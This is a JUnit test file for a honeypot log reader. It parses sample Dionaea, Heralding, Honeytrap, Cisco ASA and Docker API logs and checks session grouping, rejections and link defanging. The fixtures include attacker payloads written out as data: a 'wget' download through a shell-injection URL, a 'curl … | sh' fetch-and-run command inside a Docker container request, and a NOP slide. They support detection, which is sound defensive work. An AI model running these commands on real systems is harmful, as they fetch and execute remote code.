package yochi.node.trace;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.io.SequenceInputStream;
import java.time.Instant;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import org.junit.jupiter.api.Test;
import yochi.core.model.Country;
import yochi.core.model.Prefix;
import yochi.core.model.Service;
import yochi.node.Collected;
import yochi.node.input.Noted;
import yochi.node.input.RejectReason;
import yochi.node.observation.HoneypotSession;
import yochi.node.observation.Sensor;
import yochi.node.observation.SensorTable;
import yochi.node.observation.Specimen;

/** The JSON logs of honeypots, in hand-made samples of the sensors' own forms (A-1, K-7). */
class HoneypotLogsTest {
    private static final Sensor POT = Sensor.of("pot", new Country("JP"));

    private final Collected sink = new Collected();

    private InputAccount read(String text, TraceSettings settings) {
        return new TraceReader(settings).read("log", new ByteArrayInputStream(text.getBytes(ISO_8859_1)), sink);
    }

    private InputAccount read(String text) {
        return read(text, TraceSettings.of(SensorTable.single(POT)));
    }

    private static String dionaea(String type, int port, String more) {
        return "{\"connection\": {\"protocol\": \"x\", \"transport\": \"tcp\", \"type\": \"" + type
                + "\"}, \"dst_ip\": \"198.51.100.2\", \"dst_port\": " + port
                + ", \"src_ip\": \"192.0.2.7\", \"src_port\": 1401,"
                + " \"timestamp\": \"2025-02-12T08:28:02.472515\"" + more + "}";
    }

    @Test
    void dionaeaArraysWithEmptyElementsRead() {
        InputAccount account = read("[" + dionaea("accept", 445, "") + ",\n,\n"
                + dionaea(
                        "accept",
                        1433,
                        ", \"credentials\": {\"password\": [\"\", \"x\"], \"username\": [\"sa\", \"sa\"]}")
                + ",\n"
                + dionaea(
                        "accept",
                        21,
                        ", \"ftp\": {\"commands\": {\"arguments\": [\"root\", \"y\", \"b\"], \"command\": [\"USER\","
                                + " \"PASS\", \"STOR\"]}}")
                + ",\n" + dionaea("listen", 0, "") + "]\n");
        assertThat(account.format()).contains(TraceFormat.DIONAEA);
        assertThat(account.packets()).isEqualTo(3);
        assertThat(account.rejected(RejectReason.NO_OBSERVATION)).isEqualTo(1);
        assertThat(account.clean()).isTrue();
        assertThat(sink.sessions).extracting(HoneypotSession::service).containsExactly(
                Service.tcp(445), Service.tcp(1433), Service.tcp(21));
        assertThat(sink.sessions.get(1).logins()).isEqualTo(new HoneypotSession.Logins(2, 0, 2, 2));
        assertThat(sink.sessions.get(2).logins().failed()).isEqualTo(1);
        assertThat(sink.sessions.get(2).downloads()).isEqualTo(1);
        assertThat(sink.sessions.getFirst().start()).isEqualTo(Instant.parse("2025-02-12T08:28:02.472515Z"));
    }

    private static String heralding(String id, int second, String password) {
        return "{\"timestamp\": \"2025-02-22 08:12:" + second + ".590060\", \"duration\": 1, \"session_id\": \"" + id
                + "\", \"source_ip\": \"192.0.2.7\", \"source_port\": 1, \"destination_ip\": \"198.51.100.2\","
                + " \"destination_port\": 5900, \"protocol\": \"vnc\", \"num_auth_attempts\": 1, \"auth_attempts\":"
                + " [{\"timestamp\": \"2025-02-22 08:12:21.043131\", \"username\": null, \"password\": \"" + password
                + "\"}], \"session_ended\": true, \"auxiliary_data\": {}}\n";
    }

    @Test
    void aWholeArrayOnOneLineReads() {
        InputAccount account =
                read("[" + dionaea("accept", 445, "") + ", " + dionaea("accept", 80, "") + ", 7]\n");
        assertThat(account.packets()).isEqualTo(2);
        assertThat(account.rejected(RejectReason.MALFORMED)).isEqualTo(1);
    }

    @Test
    void aSourceThatIsIdleIsHandedOnWhileOthersGoOn() {
        read("[" + asa("08:00:00", "x") + ",\n" + asa("08:00:01", "x").replace("192.0.2.7", "192.0.2.8") + ",\n"
                + asa("08:09:00", "x").replace("192.0.2.7", "192.0.2.8") + ",\n"
                + asa("08:11:00", "x").replace("192.0.2.7", "192.0.2.8") + "\n]\n");
        assertThat(sink.sessions)
                .extracting(s -> s.source().getHostAddress())
                .containsExactly("192.0.2.7", "192.0.2.8");
        assertThat(sink.sessions.get(1).end()).isAfter(sink.sessions.getFirst().end());
    }

    @Test
    void whoOpensANewSessionForEveryAttemptIsABruteForcerToo() {
        InputAccount account = read(heralding("a", 10, "one") + heralding("b", 20, "one") + heralding("c", 30, "two"));
        assertThat(account.format()).contains(TraceFormat.HERALDING);
        assertThat(sink.sessions)
                .extracting(s -> s.id() + " " + s.logins().credentialsInMinute())
                .containsExactly("a 1", "b 1", "c 2");
        assertThat(sink.sessions)
                .extracting(s -> s.logins().failedInMinute())
                .containsExactly(1, 2, 3);
    }

    private static String honeytrap(String start, String hex) {
        return "{ \"is_virtual\": false, \"@timestamp\": \"" + start + "\", \"start_time\": \"" + start
                + "\", \"end_time\": \"" + start + "\", \"attack_connection\": { \"protocol\": \"tcp\", \"remote_ip\":"
                + " \"192.0.2.7\", \"remote_port\": 1, \"local_ip\": \"198.51.100.2\", \"local_port\": 80, \"payload\":"
                + " { \"md5_hash\": \"d41d8cd98f00b204e9800998ecf8427e\", \"length\": 3, \"data_hex\": \"" + hex
                + "\" } }, \"download_count\": 0, \"downloads\": { } }";
    }

    private static String hex(String text) {
        return java.util.HexFormat.of().formatHex(text.getBytes(ISO_8859_1));
    }

    @Test
    void honeytrapPayloadsAreSearchedAndForgotten() {
        String day = "2025-02-18T04:23:26Z";
        InputAccount account = read("{\"attacks\":[\n"
                + honeytrap(day, "") + ",\n"
                + honeytrap(day, hex("GET /shell?cd+/tmp;wget+http://192.0.2.1/a HTTP/1.1\r\n")) + ",\n"
                + honeytrap(day, "90".repeat(16) + "cc") + ",\n"
                + honeytrap("1970-01-01T00:00:00Z", "") + ",\n"
                + honeytrap(day, "9") + "\n]}\n");
        assertThat(account.format()).contains(TraceFormat.HONEYTRAP);
        assertThat(account.packets()).isEqualTo(3);
        assertThat(account.rejected(RejectReason.CLOCK_UNSET)).isEqualTo(1);
        assertThat(account.rejected(RejectReason.MALFORMED)).isEqualTo(1);
        assertThat(sink.sessions.get(0).injection()).isFalse();
        assertThat(sink.sessions.get(1).injection()).isTrue();
        assertThat(sink.sessions.get(1).requests()).isEqualTo(new HoneypotSession.Requests(1, 1, 0));
        assertThat(sink.sessions.get(2).exploits()).containsExactly("nop-slide");
    }

    private static String asa(String time, String said) {
        return "{\"timestamp\": \"2025-02-24T" + time + ".595312\", \"src_ip\": \"192.0.2.7\","
                + " \"payload_printable\": \"" + said + "\"}";
    }

    @Test
    void asaRequestsOfASourceAreOneSessionUntilItIsIdle() {
        InputAccount account = read("["
                + asa("08:00:00", "\\\"GET /+CSCOE+/logon.html?x=1 HTTP/1.1\\\" 200 -") + ",\n"
                + asa("08:00:01", "\\\"POST /+webvpn+/index.html HTTP/1.1\\\" 200 -") + ",\n"
                + asa("08:00:02", "\\\"GET /login HTTP/1.1\\\" 404 -") + ",\n"
                + asa("08:00:03", "code 400, message Bad request syntax (\"{\"id\":1}\")") + ",\n"
                + asa("08:10:04", "Request timed out") + "\n]\n");
        assertThat(account.format()).contains(TraceFormat.CISCO_ASA);
        assertThat(account.noted()).containsExactly(new Noted("mendedRecord", 1, "line 4"));
        assertThat(account.packets()).isEqualTo(5);
        assertThat(sink.sessions).hasSize(2);
        HoneypotSession first = sink.sessions.getFirst();
        assertThat(first.requests()).isEqualTo(new HoneypotSession.Requests(3, 3, 1));
        assertThat(first.logins().failed()).isEqualTo(1);
        assertThat(first.closed()).isTrue();
        assertThat(first.service()).isEqualTo(Service.tcp(-1));
    }

    @Test
    void aDockerHourOfASourceIsOneSessionAndLinksAreDefanged() {
        String head = "{\"hour\": \"2021-05-15T01:00\", \"port\": 2375, \"src\": \"192.0.2.7\", \"method\": ";
        InputAccount account = read(head + "\"GET\", \"path\": \"/version\", \"ua\": \"x\"}\n"
                + head + "\"POST\", \"path\": \"/v1.24/containers/create?n=a\", \"ua\": \"x\", \"image\": \"alpine\","
                + " \"cmd\": \"[\\\"sh\\\", \\\"-c\\\", \\\"curl http://192.0.2.9/x.sh|sh\\\"]\"}\n"
                + head + "\"POST\", \"path\": \"/v1.24/containers/create\", \"ua\": \"x\", \"cmd\": \"null\"}\n");
        assertThat(account.format()).contains(TraceFormat.DOCKER_API);
        HoneypotSession session = sink.sessions.getFirst();
        assertThat(sink.sessions).hasSize(1);
        assertThat(session.requests().total()).isEqualTo(3);
        assertThat(session.commands()).isEqualTo(1);
        assertThat(session.exploits()).containsExactly("docker-container-create");
        assertThat(session.specimens()).containsExactly(new Specimen("", "hxxp://192[.]0[.]2[.]9/x[.]sh"));
    }

    @Test
    void aSensorsOwnConnectionsAndUnknownSensorsAreToldApart() {
        Sensor dark = POT.watching(List.of(Prefix.parse("192.0.2.0/24")));
        InputAccount own = read(heralding("a", 10, "x"), TraceSettings.of(SensorTable.single(dark)));
        assertThat(own.rejected(RejectReason.OWN_TRAFFIC)).isEqualTo(1);
        Sensor other = Sensor.of("other", Country.UNKNOWN).watching(List.of(Prefix.parse("198.51.100.0/24")));
        Sensor third = Sensor.of("third", Country.UNKNOWN);
        read(heralding("b", 10, "x"), TraceSettings.of(SensorTable.of(List.of(other, third))));
        assertThat(sink.sessions.getFirst().origin().sensor().name()).isEqualTo("other");
        InputAccount unknown = read(heralding("c", 10, "x"), TraceSettings.of(SensorTable.of(List.of(POT, third))));
        assertThat(unknown.rejected(RejectReason.UNKNOWN_SENSOR)).isEqualTo(1);
    }

    @Test
    void aTimeStillToComeIsRejectedAndOneOfTodayIsNot() {
        TraceSettings today = TraceSettings.of(SensorTable.single(POT))
                .until(() -> Instant.parse("2025-02-22T08:12:20Z"));
        InputAccount account = read(heralding("a", 19, "x") + heralding("b", 21, "x"), today);
        assertThat(account.packets()).isEqualTo(1);
        assertThat(account.rejected(RejectReason.FUTURE_TIME)).isEqualTo(1);
        assertThat(account.rejected().getFirst().firstPosition()).isEqualTo("line 2");
    }

    @Test
    void bytesThatAreNoUtf8SpoilATextAndNotItsRecord() {
        InputAccount account =
                read(heralding("a", 10, "p\u00FFss") + "{\"timestamp\" \u00FF\n" + heralding("b", 11, "y"));
        assertThat(account.packets()).isEqualTo(2);
        assertThat(account.noted()).containsExactly(new Noted("invalidUtf8", 1, "line 1"));
        assertThat(account.rejected(RejectReason.MALFORMED)).isEqualTo(1);
    }

    @Test
    void aLineOfAHundredMegabytesIsRejectedInBoundedMemoryAndItsNeighboursAreTaken() {
        InputStream endless = new InputStream() {
            private int left = 100 << 20;

            @Override
            public int read() {
                return left-- > 0 ? 'x' : -1;
            }

            @Override
            public int read(byte[] target, int offset, int length) {
                int n = Math.min(left, length);
                Arrays.fill(target, offset, offset + Math.max(0, n), (byte) 'x');
                left -= n;
                return n <= 0 ? -1 : n;
            }
        };
        InputStream log = new SequenceInputStream(Collections.enumeration(List.of(
                new ByteArrayInputStream((heralding("a", 10, "x") + "{\"timestamp\": \"").getBytes(ISO_8859_1)),
                endless,
                new ByteArrayInputStream(("\"}\n" + heralding("b", 11, "y")).getBytes(ISO_8859_1)))));
        InputAccount account = new TraceReader(TraceSettings.of(SensorTable.single(POT))).read("log", log, sink);
        assertThat(account.packets()).isEqualTo(2);
        assertThat(account.rejected(RejectReason.LINE_TOO_LONG)).isEqualTo(1);
        assertThat(account.rejected().getFirst().firstPosition()).isEqualTo("line 2");
        assertThat(sink.sessions).extracting(HoneypotSession::id).containsExactly("a", "b");
    }

    @Test
    void aDefangedLinkIsCutAndFollowedByNobody() {
        assertThat(Specimen.defang("Https://a.example/b\u0007.c")).isEqualTo("Hxxps://a[.]example/b.c");
        assertThat(Specimen.defang("x".repeat(900))).hasSize(512);
        assertThat(Specimen.of("ABCDEF0123456789abcdef0123456789", "").hash()).hasSize(32);
        assertThat(Specimen.of("no hash", "").hash()).isEmpty();
    }
}
